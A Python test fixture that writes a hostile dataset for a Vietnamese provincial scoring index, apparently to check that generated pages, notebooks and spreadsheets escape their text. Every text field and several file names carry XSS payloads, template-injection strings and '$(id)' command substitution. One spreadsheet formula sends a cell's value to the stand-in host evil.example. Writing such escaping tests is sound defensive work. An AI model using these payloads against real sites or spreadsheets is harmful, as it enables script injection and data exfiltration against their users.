"""A scheme whose every text field holds something that a careless page, notebook or spreadsheet would run."""

import csv
import io
import json
import shutil
from collections.abc import Iterable, Sequence
from pathlib import Path

from openpyxl import Workbook

ROOT = Path(__file__).resolve().parents[2]
CODE, YEAR = "doc-hai", 2019
TRAPS = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=2>',
    "'><svg onload=window.__xss=3>",
    "</style></title></textarea><script>window.__xss=4</script>",
    "[b](javascript:window.__xss=5) **c** `d`",
    '<a href="javascript:window.__xss=6">x</a>',
    '<iframe srcdoc="<script>parent.__xss=7</script>"></iframe>',
    "{{ 7*7 }} {% raw %} ${x} {0} {found} %s %(a)s",
    "https://evil.example/\"onmouseover='window.__xss=8'",
    "<math><mi//xlink:href='javascript:window.__xss=9'>",
    "]]><!--<style>*{display:none}</style>",
    "$\\href{javascript:window.__xss=10}{x}$ $\\frac$",
    "\\u003cscript\\u003ewindow.__xss=11\\u003c/script\\u003e",
    "nghiêng" * 17,
)
FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Sở")', "@SUM(1+1)", "+84 24 Sở", "-2+3 Sở")
UNITS = tuple(f"Sở {number} {trap}" for number, trap in enumerate(TRAPS, 1))
DISTRICTS = FORMULAS
NAMES = (*UNITS, *DISTRICTS)


class Fresh:
    """Texts with a trap in each, one after the other, so that no two places have the same."""

    def __init__(self) -> None:
        """Begin with the first trap."""
        self.number = 0
        self.given: list[str] = []

    def __call__(self, what: str) -> str:
        """Return a text that begins with a word for its place."""
        self.number += 1
        text = f"{what} {TRAPS[self.number % len(TRAPS)]}"
        self.given.append(text)
        return text


def write_hostile(root: Path) -> list[str]:
    """Write the scheme and the notebooks, and return texts that must be found on its pages, as they are."""
    folder, fresh = root / "data" / "raw" / CODE, Fresh()
    for year in (YEAR - 1, YEAR):
        (folder / str(year)).mkdir(parents=True)
        _table(folder / str(year) / "framework.csv", _framework(fresh))
        _table(folder / str(year) / "published.csv", _published(fresh))
        _table(folder / str(year) / "survey.csv", _answers(year))
        for trap in ('"><svg onload=window.__xss=20>', "'{{ 7*7 }}`$(id)`"):
            _table(folder / str(year) / f"{trap}.csv", _scores(year, NAMES[::2] if "svg" in trap else NAMES[1::2]))
    _table(folder / str(YEAR - 1) / "junk <b onclick=window.__xss=21>.csv", _junk(fresh))
    _book(folder / str(YEAR - 1) / "junk <img src=x onerror=window.__xss=22>.xlsx", fresh)
    _table(folder / "national.csv", _national(fresh))
    _table(folder / "units.csv", _register())
    (folder / "scheme.toml").write_text(_scheme(fresh), encoding="utf-8")
    (folder / "SOURCES.toml").write_text(_sources(fresh), encoding="utf-8")
    (folder / "corrections.toml").write_text(_corrections(fresh), encoding="utf-8")
    shutil.copytree(ROOT / "notebooks", root / "notebooks")
    return [*UNITS, *DISTRICTS]


def _table(path: Path, rows: Iterable[Sequence[object]]) -> None:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    path.write_text(text.getvalue(), encoding="utf-8")


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _both(fresh: Fresh, what: str) -> str:
    return f"{{ vi = {_quoted(fresh(what))}, en = {_quoted(fresh(what + ' in English'))} }}"


def _framework(fresh: Fresh) -> Iterable[Sequence[object]]:
    yield ("code", "parent", "level", "vi", "en", "aliases", "max_so", "max_huyen", "source")
    names = [("index", "", "index", 15, 15, ""), ("1", "index", "area", 10, 10, ""), ("2", "index", "area", 5, 5, "")]
    names += [
        ("1.1", "1", "criterion", 4, 4, ""),
        ("1.2", "1", "criterion", 6, 6, ""),
        ("2.2", "2", "criterion", 5, 5, "survey"),
    ]
    for code, parent, level, first, second, source in names:
        yield (
            code,
            parent,
            level,
            fresh(f"Mục {code}"),
            fresh(f"Line {code}"),
            fresh(f"bí danh {code}"),
            first,
            second,
            source,
        )


def _register() -> Iterable[Sequence[object]]:
    yield ("code", "block", "vi", "en", "aliases", "valid_from", "valid_to", "successors")
    for number, name in enumerate(NAMES):
        block = "so" if name in UNITS else "huyen"
        yield (f"don-vi-{number}", block, name, f"{name} EN" if block == "so" else name, "", "", "", "")


def _scores(year: int, names: Sequence[str]) -> Iterable[Sequence[object]]:
    yield ("Đơn vị", "Mã tiêu chí", "Điểm tối đa", "Tự chấm", "Thẩm định", "Ghi chú")
    for number, name in enumerate(names):
        for place, (code, most) in enumerate({"1.1": 4, "1.2": 6}.items()):
            points = most - (number * 7 + place * 5 + year) % 9 / 4
            own = "KĐ" if number == 2 and place == 1 else f"{min(points + 0.25, most):.2f}"
            yield (name, code, most, own.replace(".", ","), f"{points:.2f}".replace(".", ","), f"note {TRAPS[number]}")


def _answers(year: int) -> Iterable[Sequence[object]]:
    yield ("Đơn vị", "Mã tiêu chí", "Số phiếu", "A", "B", "C", "D", "Điểm")
    for number, name in enumerate(NAMES):
        a, b, c = 60 - number, 20 + number % 7, 10 + (number + year) % 5
        yield (name, "2.2", a + b + c, a, b, c, 0, f"{5 * (a + 0.6 * b + 0.2 * c) / (a + b + c):.2f}".replace(".", ","))


def _published(fresh: Fresh) -> Iterable[Sequence[object]]:
    yield ("block", "unit", "area", "statistic", "source", "text", "base_year", "reading", "note")
    yield ("so", "", "1", "mean_points", "", "8,40/10,00", "", "", fresh("ghi chú in"))
    yield ("huyen", "", "2", "mean_points", "", "4,10/5,00", "", "", fresh("ghi chú in"))


def _national(fresh: Fresh) -> Iterable[Sequence[object]]:
    yield ("year", "measure", "statistic", "value", "of", "text", "basis")
    for year in (YEAR - 1, YEAR):
        yield (year, "PAR INDEX", "rank", year - 2010, 63, fresh("hạng"), "printed")


def _junk(fresh: Fresh) -> Iterable[Sequence[object]]:
    yield ("Đơn vị", "Mã tiêu chí", "Thẩm định", fresh("tiêu đề"))
    for trap in (*TRAPS, *FORMULAS, "a\u2028b", "\u202eevil", "x\x07y"):
        yield (trap, "1.1", 3, "")
        yield (UNITS[0], trap, 3, "")
        yield (UNITS[1], "1.1", trap, "")


def _book(path: Path, fresh: Fresh) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = '"><svg onload=__xss=23>'
    for row in _junk(fresh):
        sheet.append([str(cell).replace("\x07", "") for cell in row])
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    book.save(path)


def _scheme(fresh: Fresh) -> str:
    lines = [f'code = "{CODE}"', "constructed = true", "decimals = 2"]
    lines += [f"name = {_both(fresh, 'Chỉ số')}", f"province = {_both(fresh, 'tỉnh')}"]
    for block in ("so", "huyen"):
        lines += [f"[blocks.{block}]", f"name = {_both(fresh, block)}", f"short = {_both(fresh, block)}"]
    lines += ["[marks]", '"KĐ" = "missing"', *(f'{_quoted(trap)} = "not_applicable"' for trap in TRAPS[:3])]
    lines += ["[survey]", 'file = "survey.csv"', "worth = { A = 1.0, B = 0.6, C = 0.2, D = 0.0 }"]
    lines += ["[analysis]", "replications = 100", "[[tables]]", 'files = "*"']
    for block, least in (("so", 70), ("so", 0), ("huyen", 0)):
        names = f"vi = {_quoted(fresh('nhóm'))}\nen = {_quoted(fresh('band'))}"
        lines += ["[[bands]]", f'block = "{block}"', f"from = {YEAR - 1}", names, f"at_least = {least}"]
    return "\n".join(lines)


def _sources(fresh: Fresh) -> str:
    lines: list[str] = []
    for year in (YEAR - 1, YEAR):
        files = json.dumps([f"{year}/framework.csv", f"{year}/survey.csv", f"{year}/published.csv"])
        lines += ["[[sources]]", f"id = {_quoted(fresh('nguồn'))}", f"title = {_both(fresh, 'Nguồn')}"]
        lines += [f"publisher = {_quoted(fresh('nơi công bố'))}", f'date = "{year}-12-31"', f"files = {files}"]
        lines += ["complete = false", f"missing = {_both(fresh, 'thiếu')}", f"note = {_both(fresh, 'ghi chú nguồn')}"]
        lines += ['url = "https://evil.example/?a=1&b=(2)#javascript:alert(1)"']
    return "\n".join(lines)


def _corrections(fresh: Fresh) -> str:
    file = f'{YEAR}/"><svg onload=window.__xss=20>.csv'
    lines = ["[[corrections]]", f"file = {_quoted(file)}", 'unit = "don-vi-0"', 'criterion = "1.1"', 'source = "self"']
    return "\n".join(
        [
            *lines,
            'expect = "3,50"',
            'becomes = "3"',
            f"why = {_both(fresh, 'lý do')}",
            f"who = {_quoted(fresh('ai'))}",
        ]
    )
